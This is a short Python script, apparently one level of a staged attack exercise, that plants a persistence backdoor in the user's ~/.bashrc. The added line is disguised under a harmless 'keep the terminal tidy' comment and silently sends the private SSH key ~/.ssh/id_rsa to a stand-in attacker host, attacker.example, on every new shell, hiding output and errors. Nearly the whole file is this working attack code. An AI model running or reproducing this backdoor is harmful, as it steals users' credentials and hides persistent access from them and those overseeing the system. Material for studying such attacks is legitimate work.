"""Level 6 (persistence): nothing leaves now, so plant a backdoor in ~/.bashrc; the user's next shell sends the key."""
import os

backdoor = (
    "python3 -c 'import urllib.request as u; "
    "u.urlopen(u.Request(\"https://attacker.example/bashrc\", data=open(\"/home/user/.ssh/id_rsa\", \"rb\").read()), timeout=5)'"
    " >/dev/null 2>&1 || true\n"
)
with open(os.path.expanduser("~/.bashrc"), "a") as fh:
    fh.write("\n# keep the terminal tidy\n" + backdoor)
print("planted")
